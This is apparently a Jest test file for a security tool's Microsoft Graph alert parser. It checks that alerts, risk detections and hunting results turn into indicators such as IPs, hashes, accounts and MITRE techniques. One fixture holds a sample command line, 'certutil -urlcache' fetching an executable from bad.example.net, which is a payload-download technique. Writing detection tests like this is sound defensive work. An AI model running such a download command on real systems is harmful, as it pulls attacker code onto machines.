import { describe, expect, test } from '@jest/globals';
import { describeSourceContract } from '../../../test/describe-source-contract.js';
import { normalized, statedBy } from '../../../test/normalized.js';
import { readFixtures } from '../../../test/read-fixtures.js';
import { msGraph } from './index.js';

const fixtures = readFixtures(import.meta.dirname);
const read = (name: string) => normalized(msGraph, fixtures[name]);

describeSourceContract(msGraph, fixtures);

describe('ms_graph', () => {
  test('reads the evidence of an alert v2', () => {
    const alert = read('alert-v2-page');
    expect(alert).toMatchObject({
      title: 'Suspicious PowerShell',
      severity: 'High',
      occurredAt: new Date('2025-01-01T23:59:00.123Z'),
      nativeAlertId: 'da1',
      sourceRuleId: 'det-1',
      sourceUrl: 'https://security.microsoft.com/alerts/da1',
      mitreTactics: ['TA0002'],
      mitreTechniques: ['T1059.001'],
      hosts: ['pc1.contoso.com'],
    });
    expect(statedBy(alert)).toEqual([
      'ip 198.51.100.19',
      'ip 203.0.113.14',
      'url https://bad.example.net/x',
      'hash_sha1 a9993e364706816aba3e25717850c26c9cd0d89d',
      'account mo@contoso.com',
      'account CORP\\lou',
    ]);
  });

  test('reads the states of an alert v1', () => {
    const alert = read('alert-v1');
    expect(alert.occurredAt).toEqual(new Date('2025-01-03T10:00:00Z'));
    expect(statedBy(alert)).toEqual([
      'ip 198.51.100.2',
      'domain d.example.org',
      'ip 203.0.113.201',
      'ip 203.0.113.200',
      'hash_sha256 ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
      'account nia@contoso.com',
    ]);
  });

  test('reads a risk detection', () => {
    expect(read('risk-detection')).toMatchObject({
      title: 'unlikelyTravel',
      severity: 'Low',
      users: ['pia@contoso.com'],
      fields: { src_ip: '198.51.100.77' },
    });
  });

  test('reads streamed evidence, where a device id is no hash', () => {
    const alert = read('streamed-evidence');
    expect(alert).toMatchObject({
      title: 'Abnormal image load',
      severity: 'High',
      mitreTactics: ['TA0005'],
      mitreTechniques: ['T1218.011'],
      hosts: ['pc9.contoso.com'],
    });
    expect(statedBy(alert)).toEqual(['ip 198.51.100.90', 'account quin@contoso.com']);
  });

  test('states a user where the name stands, and leaves the evidence beside it to be read', () => {
    const evidence = {
      sha256: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
      accountName: 'bob',
      domainName: 'CORP',
      processCommandLine: 'certutil -urlcache http://bad.example.net/a.exe',
    };
    const userAccount = { userPrincipalName: 'ann@contoso.com', azureAdUserId: 'x' };
    const alert = normalized(msGraph, { title: 'A', evidence: [evidence, { userAccount }] });
    expect(alert.statedIndicators.map(({ value, pointer }) => [value, pointer])).toEqual([
      [evidence.sha256, '/evidence/0/sha256'],
      ['CORP\\bob', '/evidence/0/accountName'],
      ['ann@contoso.com', '/evidence/1/userAccount'],
    ]);
  });

  test('reads the hashes of advanced hunting', () => {
    const alert = normalized(msGraph, {
      properties: { Title: 'A', SHA1: 'a9993e364706816aba3e25717850c26c9cd0d89d' },
    });
    expect(alert.fields).toEqual({ file_hash_sha1: 'a9993e364706816aba3e25717850c26c9cd0d89d' });
  });
});
